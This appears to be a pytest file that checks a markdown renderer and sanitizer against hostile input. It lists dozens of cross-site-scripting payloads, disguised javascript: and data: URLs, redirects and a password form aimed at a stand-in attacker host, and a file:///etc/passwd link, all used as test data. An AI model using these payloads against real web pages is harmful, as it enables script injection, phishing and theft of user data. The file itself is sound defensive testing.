"""Hostile answers: nothing in them runs, loads, styles or leads to a place they hide."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from orchestrator.markdown import sanitizer
from orchestrator.markdown.rendering import render
from tests.markdown.pages import Page

RAW_HTML = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror='alert(1)'>",
    "<b onmouseover=alert(1)>b</b>",
    "<body onload=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
    "<math href='javascript:alert(1)'>x</math>",
    "<style>*{display:none}</style>",
    "<p style='position:fixed'>x</p>",
    "<iframe src='https://evil.example'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src='data:image/svg+xml;base64,PHN2Zz4='>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<form action='https://evil.example'><input name=password></form>",
    "<a href='javascript:alert(1)'>x</a>",
    "<!-- --><script>alert(1)</script><!-- -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo '<script>' ?>",
    "</figure></div><script>alert(1)</script>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<details open ontoggle=alert(1)>",
    "<template><script>alert(1)</script></template>",
]

DISGUISES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "java&#10;script:alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;avascript:alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "java&Tab;script:alert(1)",
    "&#1;javascript:alert(1)",
    "%6Aavascript:alert(1)",
    "jav\\ascript:alert(1)",
    "javascript\\:alert(1)",
    "<javascript:alert(1)>",
    "<java script:alert(1)>",
    "javascript://example.org/%0Aalert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD4=",
    "data:image/svg+xml,<svg>",
    "DATA:image/png;base64,AAAA",
    "blob:https://example.org/1",
    "file:///etc/passwd",
    "ftp://example.org/",
    "//evil.example/",
    "/\\evil.example/",
    "\\\\evil.example/",
    "/account/delete",
    "settings",
    "?next=1",
    "https:evil.example",
    "https:/evil.example",
    "https:///evil.example",
    "https:\\\\evil.example",
    "HtTpS://evil.example",
    "https://example.org\\@evil.example",
    "https://example.org@evil.example",
    "https://user:word@evil.example",
    "https://[::1",
    "about:blank",
    "view-source:https://example.org",
    "feed:javascript:alert(1)",
    "#fn-1",
    "#main",
    "",
]

CONTAINERS = [
    "[x]({})",
    "[x](<{}>)",
    '[x]({} "title")',
    "![x]({})",
    "[![x]({})]({})",
    "<{}>",
    "[x][r]\n\n[r]: {}\n",
    "![x][r]\n\n[r]: <{}> 'title'\n",
    "| [x]({}) |\n|---|\n| ![y]({}) |",
    "- > [x]({})",
    "[^1]\n\n[^1]: [x]({})",
]

OTHER = [
    '[x](https://example.org "\\" onclick=alert(1) x=\\"")',
    "[x](https://example.org/\"onclick='alert(1)')",
    '![x" onerror=alert(1) y="](https://example.org/a.png)',
    '```html" onclick=alert(1)\n<script>alert(1)</script>\n```',
    "```<script>\nx\n```",
    '``` "><script>alert(1)</script>\nx\n```',
    "`<script>alert(1)</script>`",
    "| a<script> |\n|:-:|\n| <img src=x onerror=alert(1)> |",
    "$\\text{<script>alert(1)</script>}$",
    "$\\text{<img src=x onerror=alert(1)>}$",
    "$\\unicode{3c}script\\unicode{3e}$",
    "$\\href{javascript:alert(1)}{x}$",
    "$\\style{position:fixed}{x}$",
    "$\\class{danger}{x}$",
    "$$\\color{red;background:url(//evil.example)}{x}$$",
    "$\\frac{<script>alert(1)</script>$",
    "[^<script>]\n\n[^<script>]: x",
    '[^" onclick="x]\n\n[^" onclick="x]: x',
    "https://example.org/<script>alert(1)</script>",
    'https://example.org/"onclick=alert(1)',
    "http://javascript:alert(1)",
    'mailto:x@example.org"onclick=alert(1)',
    "- [x](javascript:alert(1))\n- [ ] <input onfocus=alert(1) autofocus>",
]


@pytest.mark.parametrize("html", RAW_HTML)
def test_html_in_an_answer_is_shown_as_text(html: str) -> None:
    page = Page(render(html))
    assert not page.dangers
    assert {tag for tag, _ in page.elements} <= {"p", "a"}
    assert "".join(page.text.split()) == "".join(html.split())


@pytest.mark.parametrize("container", CONTAINERS)
@pytest.mark.parametrize("url", DISGUISES)
def test_no_disguised_address_becomes_a_link(container: str, url: str) -> None:
    page = Page(render(container.replace("{}", url)))
    assert not page.dangers
    assert [href for href in page.hrefs if not href.startswith("#fn")] == []


@pytest.mark.parametrize("text", OTHER)
def test_nothing_breaks_out_of_the_place_it_is_put_in(text: str) -> None:
    assert not Page(render(text)).dangers


@pytest.mark.parametrize("prefix", ['"><script>', "a b", "x' onclick='", "ü<"])
def test_a_prefix_cannot_leave_its_attribute(prefix: str) -> None:
    page = Page(render("[^1]\n\n[^1]: x", prefix))
    assert not page.dangers
    assert len(page.hrefs) == 2


@pytest.mark.parametrize(
    "html",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<p style='color:red' onclick=x id=main class=panel>x</p>",
        "<a href='javascript:alert(1)'>x</a>",
        "<a href='//evil.example'>x</a>",
        "<a href='#main'>x</a>",
        "<math href='javascript:alert(1)'><mi style='x' xlink:href='javascript:1'>x</mi></math>",
        "<svg><style>*{}</style></svg>",
        "<input type=text name=q><button type=submit formaction=//evil.example>x</button>",
        "<span class='panel'>x</span>",
    ],
)
def test_the_last_gate_holds_on_its_own(html: str) -> None:
    page = Page(sanitizer.clean(html))
    assert not page.dangers
    kept = {"input", "button", "p", "a", "span", "math", "mi"}
    assert {tag for tag, _ in page.elements} <= kept
    assert not any(value for _, attrs in page.elements for value in attrs.values())


MARKS = "[ ] ( ) ![ ]( ` ``` $ $$ \\( \\) \\[ \\] | > - < & \" ' ~~ * _ [^1] [^1]: [r] [r]: on="
SPACES = ["\n", "\n\n", "    ", "\t", "\x00", "\ud800", "\r", "\u2028", "\n|-|\n"]
FRAGMENTS = st.sampled_from([*RAW_HTML, *DISGUISES, *OTHER, *MARKS.split(), *SPACES])


@given(st.lists(FRAGMENTS, max_size=20))
def test_no_mixture_of_attacks_gets_through(pieces: list[str]) -> None:
    assert not Page(render("".join(pieces))).dangers
